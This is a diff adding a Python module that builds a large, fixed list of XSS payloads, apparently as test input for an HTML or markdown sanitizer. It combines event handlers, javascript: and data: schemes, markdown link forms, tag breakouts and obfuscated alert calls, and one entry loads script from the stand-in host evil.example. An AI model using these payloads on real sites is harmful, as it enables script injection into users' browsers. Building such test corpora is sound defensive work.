@@ -1,0 +1,185 @@
+"""Hundreds of texts that try to run a script; each calls ``alert``, so that a browser tells if one has got through."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)", "eval(atob('YWxlcnQoMSk='))")
+_HANDLERS = [
+    "onload",
+    "onerror",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "onblur",
+    "ontoggle",
+    "onanimationstart",
+    "onpointerenter",
+    "onpageshow",
+    "oninput",
+    "onbegin",
+    "onwheel",
+    "onscroll",
+    "oncopy",
+    "onresize",
+    "onhashchange",
+    "onbeforeinput",
+    "onfocusin",
+    "ontransitionend",
+    "oncontentvisibilityautostatechange",
+]
+_ELEMENTS = (
+    "<img src=x {h}={c}>",
+    "<svg {h}={c}>",
+    "<svg/{h}={c}//",
+    "<body {h}={c}>",
+    '<details open {h}="{c}"><summary>x</summary></details>',
+    "<input autofocus {h}={c}>",
+    "<video {h}={c}><source src=x {h}={c}></video>",
+    "<a href=# {h}={c} autofocus tabindex=1>x</a>",
+    "<p style=animation-name:x {h}={c}>x",
+    '<div contenteditable {h}="{c}">x</div>',
+)
+_SCHEMES = (
+    "javascript:{c}",
+    "JaVaScRiPt:{c}",
+    "javascript&colon;{c}",
+    "java&Tab;script:{c}",
+    "&#106;avascript:{c}",
+    "&#x6A;&#x61;vascript:{c}",
+    "\u3000javascript:{c}",
+    "javascript://%0A{c}",
+    "data:text/html,<script>{c}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:{c}",
+    "data:image/svg+xml,<svg onload={c}>",
+    "//evil.example/x.js",
+    "\\\\evil.example\\x",
+    "javascript\uff1a{c}",
+    "blob:{c}",
+    "feed:javascript:{c}",
+    "view-source:javascript:{c}",
+    "jar:javascript:{c}!/",
+    "x:javascript:{c}",
+)
+_LINKS = (
+    "[x]({u})",
+    "![x]({u})",
+    "[x](<{u}>)",
+    '[x]({u} "t")',
+    "<{u}>",
+    "[x]: {u}\n\n[x]",
+    "[![x]({u})]({u})",
+    "[x][y]\n\n[y]: {u}",
+    '<a href="{u}">x</a>',
+    '<iframe src="{u}"></iframe>',
+    '<form action="{u}"><button>x</button></form>',
+    '<base href="{u}">',
+)
+_BREAKOUTS = (
+    '"><script>{c}</script>',
+    "'><script>{c}</script>",
+    "</title><script>{c}</script>",
+    "</script><script>{c}</script>",
+    "--><script>{c}</script>",
+    "]]><script>{c}</script>",
+    "</textarea><script>{c}</script>",
+    "</style><script>{c}</script>",
+    '" onmouseover="{c}" x="',
+    "' onfocus='{c}' autofocus x='",
+    "`onerror={c}`",
+    "${{{c}}}",
+    "{{{{constructor.constructor('{c}')()}}}}",
+    "{{% raw %}}<script>{c}</script>",
+    "{{{{ config }}}}<script>{c}</script>",
+    "';{c}//",
+    '";{c}//',
+    "\\';{c}//",
+    "</noscript><img src=x onerror={c}>",
+)
+_WHOLE = (
+    "<script>{c}</script>",
+    "<SCRIPT>{c}</SCRIPT>",
+    "<script/x>{c}</script>",
+    "<scr<script>ipt>{c}</scr</script>ipt>",
+    "<script src=data:,{c}></script>",
+    "<script>{c}",
+    "<<script>{c}//<</script>",
+    "<svg><script>{c}</script></svg>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={c}&gt;">',
+    '<svg></p><style><a id="</style><img src=1 onerror={c}>">',
+    '<noscript><p title="</noscript><img src=x onerror={c}>">',
+    '<iframe srcdoc="<script>{c}</script>"></iframe>',
+    '<object data="javascript:{c}"></object>',
+    '<embed src="javascript:{c}">',
+    '<link rel=stylesheet href="javascript:{c}">',
+    '<meta http-equiv=refresh content="0;url=javascript:{c}">',
+    "<style>@import 'javascript:{c}';</style>",
+    '<div style="background:url(javascript:{c})">',
+    "<isindex action=javascript:{c} type=image>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
+    "<template><script>{c}</script></template>",
+    "<xmp><script>{c}</script></xmp>",
+    "<plaintext><script>{c}</script>",
+    '<table background="javascript:{c}"><tr><td>x',
+    "<marquee onstart={c}>x</marquee>",
+    "<button popovertarget=x onclick={c}>x</button>",
+    '<a href="javascript:{c}" autofocus>x</a>',
+    "<svg><animate onbegin={c} attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:{c}"><text y=20>x</text></a></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload={c}>#x"></use></svg>',
+    "<select><noembed></select><script>{c}</script>",
+    "&lt;script&gt;{c}&lt;/script&gt;",
+    "&#60;script&#62;{c}&#60;/script&#62;",
+    "%3Cscript%3E{c}%3C/script%3E",
+    "\\<script\\>{c}\\</script\\>",
+    "＜script＞{c}＜/script＞",
+    "`<script>{c}</script>`",
+    '```x"><script>{c}</script>\nx\n```',
+    "    <script>{c}</script>",
+    "~~~{{onclick={c}}}\nx\n~~~",
+    "# x {{: onclick={c} }}",
+    "[x](y){{: onclick={c} }}",
+    '[^"><script>{c}</script>]\n\n[^"><script>{c}</script>]: x',
+    "| <script>{c}</script> |\n|---|\n| <img src=x onerror={c}> |",
+    "# <img src=x onerror={c}>",
+    "x\n:   <script>{c}</script>",
+    "> <script>{c}</script>",
+    "- <script>{c}</script>",
+    "**<script>{c}</script>**",
+    '![x"onerror={c} y="](z.png)',
+    '[x](y "\\" onclick={c}")',
+    '!!! note "<script>{c}</script>"\n    x',
+    '```mermaid\nclick A "javascript:{c}"\n```',
+    '=== "<script>{c}</script>"\n    x',
+    "*[x]: <script>{c}</script>\n\nx",
+    "<!-- --!><script>{c}</script> -->",
+    "<!--[if IE]><script>{c}</script><![endif]-->",
+    "<?xml <script>{c}</script> ?>",
+    "<![CDATA[<script>{c}</script>]]>",
+    "<br onclick={c}>",
+    "<br/onmouseover={c}>",
+    "<BR><script>{c}</script>",
+    "<br ><img src=x onerror={c}>",
+    "a<br>b<br/><svg onload={c}>",
+    '--8<-- "<script>{c}</script>"',
+    ':octicons-x"><script>{c}</script>:',
+    "++<script>{c}</script>++",
+)
+
+
+def payloads() -> Iterator[str]:
+    """Yield the texts, always the same ones in the same order."""
+    for number, element in enumerate(_ELEMENTS):
+        for at, handler in enumerate(_HANDLERS):
+            yield element.format(h=handler, c=_CALLS[(number + at) % 2])
+    for number, link in enumerate(_LINKS):
+        for at, scheme in enumerate(_SCHEMES):
+            if (number + at) % 2 or number < 2:
+                yield link.format(u=scheme.format(c=_CALLS[0]))
+    for number, form in enumerate((*_BREAKOUTS, *_WHOLE)):
+        yield form.format(c=_CALLS[0])
+        yield form.format(c=_CALLS[number % len(_CALLS)])
+
+
+PAYLOADS = tuple(dict.fromkeys(payloads()))
